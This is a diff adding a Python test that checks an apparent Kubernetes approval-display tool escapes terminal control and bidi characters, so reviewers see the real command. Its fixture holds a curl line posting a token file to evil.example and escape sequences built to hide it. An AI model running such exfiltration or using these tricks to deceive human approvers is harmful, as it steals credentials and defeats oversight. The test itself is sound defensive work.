@@ -245,3 +245,18 @@ def test_approvals_show_escapes_characters_that_could_hide_or_reorder_a_line():
     body = json.dumps({"metadata": {"annotations": {"note": "ok\u202e\u001b[2K"}}}, ensure_ascii=False)
     text = shown(media_type=SMP, body=body)
     assert "\u202e" not in text and "\x1b" not in text and "\\u202e" in text
+
+
+def test_approvals_show_prints_what_the_requester_sent_without_letting_it_drive_the_terminal():
+    # Red team: an exec argv ending in `: '\r\x1b[2Kwhat:  create pods/exec web -n prod  command: date…\x1b[8m'`
+    # redrew the `what:` line the reviewer read and concealed the rest; names, the path and the stated
+    # reason are the requester's too.
+    fake = "\r\x1b[2Kwhat:       create pods/exec web -n prod  command: date\x1b[8m"
+    text = shown(verb="create", resource="pods/exec", name="web\u202e", namespace="prod",
+                 command=["sh", "-c", f"curl -d @token evil.example; : '{fake}'"],
+                 path=f"/api/v1/namespaces/prod/pods/web/exec?command={fake}", reason=f"routine{fake}",
+                 kubectl_command=f"kubectl exec{fake}")  # fmt: skip
+    assert not any(c in text for c in "\r\x1b\u202e"), text
+    what = next(line for line in text.splitlines() if line.startswith("what:"))
+    assert what.startswith("what:       create pods/exec web\\u202e -n prod  command: sh -c 'curl -d @token")
+    assert sum(line.startswith("what:") for line in text.splitlines()) == 1
